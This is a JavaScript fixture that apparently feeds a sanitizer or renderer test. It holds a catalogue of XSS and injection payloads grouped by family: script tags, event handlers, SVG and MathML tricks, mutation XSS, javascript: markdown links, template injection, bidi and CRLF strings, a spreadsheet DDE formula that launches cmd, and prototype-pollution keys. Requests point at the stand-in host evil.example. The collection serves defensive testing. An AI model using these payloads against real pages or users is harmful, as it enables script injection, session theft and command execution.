// What visitors could send to be more than text, by families. `alert` and the like are replaced by a mark that a page can
// be asked for: `window.__ran`. Foreign requests would go to evil.example, which no page may reach.

const RUN = "window.__ran=1";
const EVIL = "https://evil.example/x";

const families = {
  tags: ["<script>R</script>", "<SCRIPT SRC=E></SCRIPT>", "<scr<script>ipt>R</scr</script>ipt>", "</textarea><script>R</script>", "</title><script>R</script>", "</style><script>R</script>", "<!--><script>R</script>-->", "<![CDATA[<script>R</script>]]>", "<iframe src=E>", "<iframe srcdoc='<script>parent.R</script>'>", "<object data=E>", "<embed src=E>", "<base href=E>", "<link rel=stylesheet href=E>", "<meta http-equiv=refresh content='0;url=E'>", "<form action=E><input name=a autofocus></form>", "<style>@import 'E';</style>", "<img src=E>", "<video src=E autoplay></video>", "<audio src=E autoplay></audio>", "<portal src=E>", "<dialog open>x</dialog>", "<marquee onstart=R>x</marquee>"],
  handlers: ["<img src=x onerror=R>", "<img/src=x/onerror=R>", "\"><img src=x onerror=R>", "'><img src=x onerror=R>", "<body onload=R>", "<input autofocus onfocus=R>", "<details open ontoggle=R>", "<video><source onerror=R></video>", "<a onmouseover=R>x</a>", "<div onpointerenter=R style=position:fixed;inset:0>", "<x contenteditable onfocus=R tabindex=1 autofocus>", "<select autofocus onfocus=R>", "\" onmouseover=\"R", "' onfocus='R' autofocus='", "<img src=x onerror=\"&#119;indow.__ran=1\">", "<style onload=R></style>"],
  svg: ["<svg onload=R>", "<svg><script>R</script></svg>", "<svg><animate onbegin=R attributeName=x dur=1s>", "<svg><a xlink:href='javascript:R'><text>x</text></a></svg>", "<svg><foreignObject><img src=x onerror=R></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg onload=R>'></svg>", "<svg><image href=E></svg>", "<svg><set attributeName=onmouseover to=R>"],
  mathml: ["<math><mtext><script>R</script></mtext></math>", "<math href='javascript:R'>x</math>", "<math><mi xlink:href='javascript:R'>x</mi></math>", "<math><annotation-xml encoding='text/html'><img src=x onerror=R></annotation-xml></math>"],
  mutation: ["<noscript><p title=\"</noscript><img src=x onerror=R>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=R&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=R>", "<svg></p><style><a id=\"</style><img src=x onerror=R>\">", "<template><img src=x onerror=R></template>", "<select><template><img src=x onerror=R></template></select>", "<listing>&lt;img src=x onerror=R&gt;</listing>", "`<img src=x onerror=R>`"],
  links: ["[x](javascript:R)", "[x](JaVaScRiPt:R)", "[x](java\tscript:R)", "[x](&#106;avascript:R)", "[x](\u0001javascript:R)", "[x](data:text/html,<script>R</script>)", "[x](vbscript:R)", "[x](blob:E)", "[x](file:///etc/passwd)", "[x](//evil.example/x)", "![x](E)", "![x](javascript:R)", "<javascript:R>", "[x]: javascript:R\n\n[x]", "[x](https://a.example\"onmouseover=\"R)", "[x](https://a.example 'onmouseover=R')", "javascript:R", "[![x](E)](javascript:R)", "[x](intent:R)", "[x](view-source:E)"],
  templates: ["{{constructor.constructor('R')()}}", "${R}", "#{R}", "<%= R %>", "{% raw %}R{% endraw %}", "{{7*7}}", "[[${R}]]", "@(R)"],
  writing: ["a\u202Egnp.exe", "\u2066\u2067x\u2069", "z\u200Bw\u200Dj\uFEFF", "\u061Cx", "a\r\nSet-Cookie: x=1", "a\u0000b", "\u001B[2J\u001B]0;x\u0007", "\u009B31mx", "\u{E0041}\u{E007F}", "a\u0300\u0301\u0302\u0303\u0304", "\u2028R\u2029"],
  tables: ["=HYPERLINK(\"E\")", "+1+cmd|'/c calc'!A1", "-2+3", "@SUM(1)", "\t=1", "\r=1"],
  names: ["__proto__", "constructor", "prototype", "toString", "{\"__proto__\":{\"x\":1}}", "hasOwnProperty"],
};

/** Every vector once, by family. */
export const VECTORS = Object.entries(families).flatMap(([family, all]) => all.map((text) => ({ family, text: text.replace(/\bR\b/g, RUN).replace(/\bE\b/g, EVIL) })));
